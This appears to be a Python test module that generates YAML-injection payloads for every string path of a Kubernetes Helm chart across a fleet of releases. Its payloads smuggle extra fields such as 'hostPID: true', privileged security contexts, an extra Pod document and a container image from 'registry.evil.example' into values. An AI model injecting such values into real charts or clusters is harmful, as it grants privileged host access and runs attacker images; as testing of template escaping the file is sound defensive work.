"""Text that leaves its place: payloads by the paths of strings that a chart reads."""

from __future__ import annotations

from pull_requests.values_table import NFD, RELEASES, change, paths

PAYLOADS = {
    "newline": "x\nhostPID: true",
    "deep newline": "x\n          securityContext: {privileged: true}",
    "document": "x\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: gained}",
    "quote": 'x"\n        - name: gained\n          image: "registry.evil.example/x',
    "comment": "x #\nhostPID: true",
    "flow": "{a: b}\nhostPID: true",
}
_NFD = (
    "image.tag",
    "image.pullPolicy",
    "fullnameOverride",
    "priorityClassName",
    *(f"{part}.dnsPolicy" for part in ("worker", "gc")),
    *(f"{part}.serviceAccount.name" for part in ("master", "worker", "gc")),
)


_RUNNING = ("operator", "validator", "toolkit", "driver", "devicePlugin", "dcgmExporter", "gfd", "daemonsets", NFD)
_NOT_TEXT = ("kubernetes.io", "openshift.io", ".resources.", ".service.", ".nodeSelector", ".fullnameOverride")
"""What the chart writes as data, which stays in its place; and names, whose refusal says no path."""


def text_changes():
    """Every payload at every path of a string, in every release of the fleet."""
    for cluster, tag in RELEASES.items():
        for path in (*paths(tag, "string"), *(f"{NFD}.{path}" for path in _NFD)):
            if path.partition(".")[0] not in _RUNNING or any(part in path for part in _NOT_TEXT):
                continue
            for name, payload in PAYLOADS.items():
                yield change(cluster, path, payload, f"{path}|{path.rpartition('.')[2]}", f"{path} {name}", kind="text")
